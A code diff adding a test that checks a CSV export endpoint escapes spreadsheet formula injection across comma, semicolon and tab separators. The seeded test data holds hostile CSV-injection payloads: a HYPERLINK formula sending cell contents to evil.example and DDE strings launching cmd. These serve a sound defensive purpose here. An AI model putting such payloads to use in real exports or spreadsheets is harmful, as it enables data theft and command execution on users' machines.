@@ -175,6 +175,50 @@ async def test_csv_export(api: Any, http: aiohttp.ClientSession) -> None:
     assert russian[2]["Клиент"] == "repeat" and russian[2]["Кампания"] == "brand"
 
 
+async def test_csv_export_neutralises_formulas_in_every_text_cell(start_server: Callable[..., Any], http: Any) -> None:
+    """OWASP's CSV injection rule: a text cell starting with = + - @ tab or CR gets a leading quote, so
+    a spreadsheet shows it as text instead of running it. Our own numbers stay numbers."""
+    server = await start_server(api_token=TOKEN)
+    hostile = {
+        "name": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+        "text": "@SUM(1+1)*cmd|' /C calc'!A0",
+        "campaign": "-2+3+cmd|' /C calc'!A0",
+        "source": "+1+1",
+        "term": "\t=1+2",
+        "content": "\r=1+2",
+        "medium": "cpc",  # harmless: kept as it is
+    }
+    await seed_dialog(
+        server.store,
+        utc("2026-11-27 06:00"),
+        contact="+79161234567",
+        name=hostile["name"],
+        text=hostile["text"],
+        campaign=hostile["campaign"],
+        source=hostile["source"],
+        term=hostile["term"],
+        content=hostile["content"],
+        medium=hostile["medium"],
+    )
+    for sep, delimiter in [("comma", ","), ("semicolon", ";"), ("tab", "\t")]:
+        params = {"period": "2026-11-27", "sep": sep}
+        async with http.get(server.url + "/api/dialogs.csv", params=params, headers=AUTH) as response:
+            assert response.status == 200
+            text = (await response.read()).decode("utf-8-sig")
+        (row,) = list(csv.DictReader(io.StringIO(text, newline=""), delimiter=delimiter))
+        assert row["contact_name"] == "'" + hostile["name"]
+        assert row["first_message"] == "'" + hostile["text"]
+        assert row["campaign"] == "'" + hostile["campaign"]
+        assert row["source"] == "'" + hostile["source"]
+        assert row["term"] == "'" + hostile["term"]
+        assert row["content"] == "'" + hostile["content"]
+        assert row["medium"] == "cpc"
+        # A phone is a formula start too (Excel would read +7916… as a sum and show 7.92E+10): text.
+        assert row["contact_phone"] == "'+79161234567"
+        assert row["message_count"] == "1"  # a count we wrote stays a number
+        assert not any(value[:1] in ("=", "+", "-", "@", "\t", "\r") for value in row.values() if value)
+
+
 async def test_csv_export_of_many_dialogs_streams_them_all(start_server: Callable[..., Any], http: Any) -> None:
     server = await start_server(api_token=TOKEN)
     for i in range(1203):  # more than two pages of the export
